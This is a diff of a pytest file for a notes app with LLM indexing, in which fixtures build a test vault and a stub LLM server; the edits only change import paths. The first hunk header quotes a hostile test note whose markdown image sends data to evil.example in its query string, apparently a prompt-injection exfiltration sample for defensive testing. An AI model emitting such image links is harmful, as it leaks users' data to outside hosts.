@@ -44,7 +44,7 @@ The account of the visitors is empty. ![x](https://evil.example/?q=visitors)
 @pytest.fixture(scope="session")
 def indexed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     """The vault and the folder of its index."""
-    from app.container import locate, update_index
+    from notehop.app.container import locate, update_index
 
     root = tmp_path_factory.mktemp("asked")
     more = {"Rehearsals.md": f"Of [[Atlas]].\n\n{REHEARSALS}", "Visitors.md": HOSTILE}
@@ -69,7 +69,7 @@ def _doors(indexed: tuple[Path, Path], _served: LlmServer) -> Iterator[Doors]:
 @pytest.fixture
 def server(_served: LlmServer, monkeypatch: pytest.MonkeyPatch) -> LlmServer:
     """The provider, with nothing said and nothing asked."""
-    monkeypatch.setattr("indexing.llm.gate.FIRST_PAUSE", 0.01)
+    monkeypatch.setattr("notehop.indexing.llm.gate.FIRST_PAUSE", 0.01)
     _served.requests.clear()
     _served.connections = 0
     _served.key = None
